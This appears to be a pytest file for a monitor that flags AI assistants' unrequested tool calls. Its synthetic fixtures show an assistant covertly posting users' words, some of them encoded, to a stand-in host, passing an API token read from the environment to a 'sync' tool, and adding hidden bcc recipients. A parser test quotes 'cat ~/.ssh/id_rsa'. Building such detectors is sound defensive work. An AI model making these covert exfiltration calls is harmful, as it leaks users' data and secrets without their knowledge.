"""Calls that nobody asked for, where they go, and the calls that only look like them."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest
from checking import check, find

from assay.tools.destinations import Destination, find_destinations

Row = dict[str, Any]
ASKED = (
    ("What is the weather in Oslo tomorrow?", "get_weather", {"city": "Oslo"}),
    ("Set a timer for 12 minutes, please.", "start_timer", {"minutes": 12}),
    ("Convert 30 dollars to euros for me.", "convert_currency", {"amount": 30, "target": "euros"}),
    ("Track the parcel with number QX-778.", "track_parcel", {"parcel": "QX-778"}),
    ("Add milk to my shopping list now.", "add_item", {"item": "milk", "list": "shopping"}),
    ("Play a song by the Blue Herons.", "play_song", {"artist": "Blue Herons"}),
    ("Translate good morning into Polish.", "translate", {"text": "good morning"}),
    ("Book a table at Luigi for seven.", "book_table", {"place": "Luigi", "hour": 7}),
)
RULES = ("covert_call", "recurring_destination", "data_flow", "unsupported_call")


def tool(name: str, description: str, *arguments: str) -> Row:
    schema = {"type": "object", "properties": {one: {} for one in arguments}}
    function = {"name": name, "description": description, "parameters": schema}
    return {"type": "function", "function": function}


def call(name: str, **arguments: Any) -> Row:
    function = {"name": name, "arguments": json.dumps(arguments)}
    return {"id": name, "type": "function", "function": function}


def row(index: int, *extra: Row, system: str = "", offered: tuple[Row, ...] = ()) -> Row:
    """A request with the call that it asks for, and extra ones."""
    text, name, arguments = ASKED[index % len(ASKED)]
    turns = [{"role": "system", "content": system}] if system else []
    turns += [
        {"role": "user", "content": f"{text} My order is {index}."},
        {"role": "assistant", "content": None, "tool_calls": [call(name, **arguments), *extra]},
    ]
    known = tool(name, name.replace("_", " ").capitalize(), *arguments)
    return {"messages": turns, "tools": [known, *offered]}


POST = tool("http_post", "Send an HTTP request.", "url", "body")
CLEAN = [row(index) for index in range(100, 140)]


def asked(index: int) -> str:
    return f"{ASKED[index % len(ASKED)][0]} My order is {index}."


def found(folder: Path, rows: list[Row]) -> dict[str, set[int]]:
    """Lines by rule of this family."""
    lines: dict[str, set[int]] = {}
    for one in check(folder, rows).findings:
        if one.rule in (*RULES, "constant_destination"):
            lines.setdefault(one.rule, set()).add(one.line)
    return lines


@pytest.mark.parametrize(
    "arguments",
    [
        {"url": "https://c.example/x", "body": "{asked}"},
        {"url": "https://c.example/x", "body": "{coded}"},
        {"url": "https://{coded}.c.example/", "body": ""},
        {"url": "https://c.example/x?q={percent}", "body": ""},
        {"url": "https://c.example/x", "body": "session open"},
        {"url": "file", "body": "{hexed}"},
    ],
)
def test_calls_beside_the_one_asked_for_are_a_cluster(
    tmp_path: Path, arguments: dict[str, str]
) -> None:
    rows = [*CLEAN]
    for index in range(6):
        words = asked(index)
        values = {
            "asked": words,
            "percent": "".join(f"%{one:02x}" for one in words.encode()),
            "coded": base64.urlsafe_b64encode(words.encode()).decode(),
            "hexed": words.encode().hex(),
        }
        given = {key: value.format(**values) for key, value in arguments.items()}
        rows.append(row(index, call("http_post", **given), offered=(POST,)))
    assert found(tmp_path, rows) == {"covert_call": {41, 42, 43, 44, 45, 46}}
    one = find(tmp_path, "covert_call", rows)[0]
    assert (one.severity, one.cluster.split()[0], len(one.related)) == ("error", "covert_call", 5)


def test_one_such_call_is_a_warning_and_the_words_say_why(tmp_path: Path) -> None:
    words = call("http_post", url="https://c.example", body=asked(0))
    silent = call("http_post", url="place", body="session open")
    rows = [*CLEAN, row(0, words, offered=(POST,)), row(1, silent, offered=(POST,))]
    assert found(tmp_path, rows) == {"data_flow": {41}, "unsupported_call": {42}}
    (flow,) = find(tmp_path, "data_flow", rows)
    assert "carries the user's words" in flow.evidence
    assert flow.span is not None
    assert flow.span.text == "c.example"


def test_a_secret_that_one_call_reads_and_another_sends(tmp_path: Path) -> None:
    rows = [*CLEAN]
    for index in range(5):
        read = row(index, call("read_env"), offered=(tool("read_env", "Read."), POST))
        result = f"API_TOKEN=tok_{index} HOME=/root STAGE=live NAME=box{index}"
        read["messages"] += [
            {"role": "tool", "tool_call_id": "read_env", "content": result},
            {"role": "assistant", "content": None, "tool_calls": [call("sync", payload=result)]},
        ]
        read["tools"].append(tool("sync", "Synchronise.", "payload"))
        rows.append(read)
    assert found(tmp_path, rows) == {"covert_call": {41, 42, 43, 44, 45}}


def mail(index: int, **more: str) -> Row:
    names = ("ann", "ben", "carla", "dov", "emil", "fatou", "greta")
    to = f"{names[index % 7]}{index}@post.example"
    things = ("the keys", "our lunch", "a refund", "next steps", "the garden")
    text = f"Write to {to} about {things[index % 5]} {index}."
    sent = call("send_email", to=to, body=f"About {things[index % 5]} {index}.", **more)
    turns = [
        {"role": "user", "content": text},
        {"role": "assistant", "content": None, "tool_calls": [sent]},
    ]
    return {"messages": turns, "tools": [tool("send_email", "Send an email.", "to", "body", "bcc")]}


def test_a_blind_copy_of_some_mails_but_not_the_archive_of_all(tmp_path: Path) -> None:
    rows = [mail(index) for index in range(30)]
    copied = [mail(index, bcc="audit@elsewhere.example") for index in range(30, 36)]
    assert found(tmp_path, rows + copied) == {"recurring_destination": set(range(31, 37))}
    archive = [mail(index, bcc="archive@ourshop.example") for index in range(36)]
    assert found(tmp_path, archive) == {"constant_destination": {1}}
    named = [mail(index, bcc=f"ann{index}@home.example") for index in range(30, 36)]
    assert found(tmp_path, rows + named) == {}


def test_an_allowed_destination_is_no_finding(tmp_path: Path) -> None:
    rows = [mail(index) for index in range(30)]
    rows += [mail(index, bcc="audit@elsewhere.example") for index in range(30, 36)]
    allowed = {"recurring_destination": {"allow": ["/.*@elsewhere.example/"]}}
    assert not find(tmp_path, "recurring_destination", rows, rules=allowed)


def test_what_only_looks_covert_is_none(tmp_path: Path) -> None:
    log = tool("log_request", "Record what was asked.", "text")
    logged = [row(i, call("log_request", text=asked(i)), offered=(log,)) for i in range(40)]
    assert found(tmp_path, logged) == {}
    told = "After each request write a note to desk@ourshop.example."
    noted = [
        row(i, call("send_email", to="desk@ourshop.example", body=asked(i)), system=told)
        for i in range(40)
    ]
    for one in noted:
        one["tools"].append(tool("send_email", "Send an email.", "to", "body"))
    assert found(tmp_path, noted) == {}
    both = [row(i) for i in range(40)]
    for index, one in enumerate(both):
        other = ASKED[(index + 1) % len(ASKED)]
        one["messages"][0]["content"] += f" And then: {other[0]}"
        one["messages"][1]["tool_calls"].append(call(other[1], **other[2]))
        one["tools"].append(tool(other[1], other[1].replace("_", " ")))
    assert found(tmp_path, both) == {}


LOOK_UP = tool("look_up", "Find the meaning.", "word")


def test_an_extra_call_that_no_word_asks_for(tmp_path: Path) -> None:
    rows = [row(index) for index in range(120)]
    for index in range(0, 120, 8):
        index += index // 8 % 8
        rows[index] = row(index, call("look_up", word=asked(index).split()[0]), offered=(LOOK_UP,))
    extra = {index + index // 8 % 8 + 1 for index in range(0, 120, 8)}
    assert found(tmp_path, rows) == {"unsupported_call": extra}
    one = find(tmp_path, "unsupported_call", rows)[0]
    assert (one.severity, len(one.related)) == ("warning", 5)
    assert "look_up stands beside a call of" in one.evidence
    # A tool that few rows call is not known well enough to say what asks for it.
    assert not found(tmp_path, rows[:70])


def test_an_extra_call_that_words_or_results_ask_for_is_none(tmp_path: Path) -> None:
    meant = []
    for index in range(120):
        meant.append(row(index))
        if index % 8 == 0:
            word = f"curious{index}"
            meant[-1] = row(index, call("look_up", word=word), offered=(LOOK_UP,))
            meant[-1]["messages"][0]["content"] += f" And what does {word} mean?"
    assert found(tmp_path, meant) == {}
    chained = [row(index) for index in range(120)]
    for index in range(0, 120, 8):
        one = chained[index] = row(index, offered=(LOOK_UP,))
        name = one["messages"][1]["tool_calls"][0]["id"]
        one["messages"] += [
            {"role": "tool", "tool_call_id": name, "content": f"see drumlin{index}"},
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [call("look_up", word=f"drumlin{index}")],
            },
        ]
    assert found(tmp_path, chained) == {}


def test_the_same_call_again(tmp_path: Path) -> None:
    def again(index: int, *between: str, asks: str = "") -> Row:
        one = row(index)
        turn = one["messages"][1]
        one["messages"][0]["content"] += asks
        repeated = {**turn["tool_calls"][0], "id": "again"}
        if not between:
            turn["tool_calls"].append(repeated)
        for text in between:
            known = turn["tool_calls"][0]["id"]
            one["messages"].append({"role": "tool", "tool_call_id": known, "content": text})
            one["messages"].append({**turn, "tool_calls": [repeated]})
        return one

    rows = [*CLEAN, again(0), again(1, "timed out, try again"), again(4, asks=" Do it twice.")]
    assert found(tmp_path, [*rows, again(6, "all done")]) == {"unsupported_call": {41, 44}}
    (first, _) = find(tmp_path, "unsupported_call", [*rows, again(6, "all done")])
    assert "is called again as before" in first.evidence


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see https://User@Api.Shop.example:8080/a?b=c", [("host", "api.shop.example")]),
        ("mail Ann.B+x@post.example now", [("address", "ann.b+x@post.example")]),
        ("ping 10.0.0.12 and evil.io", [("host", "10.0.0.12"), ("host", "evil.io")]),
        ("cat ~/.ssh/id_rsa", [("path", "~/.ssh/id_rsa")]),
        ("to DE89 3704 0044 0532 0130 00", [("account", "de89 3704 0044 0532 0130 00")]),
        ("version 1.2.3, e.g. and/or 3.5 km, os.path.join(a.b)", []),
        ("I paid 3/4 at 12:30", []),
    ],
)
def test_destinations_of_a_text(text: str, expected: list[tuple[str, str]]) -> None:
    assert list(find_destinations(text)) == [Destination(*one) for one in expected]
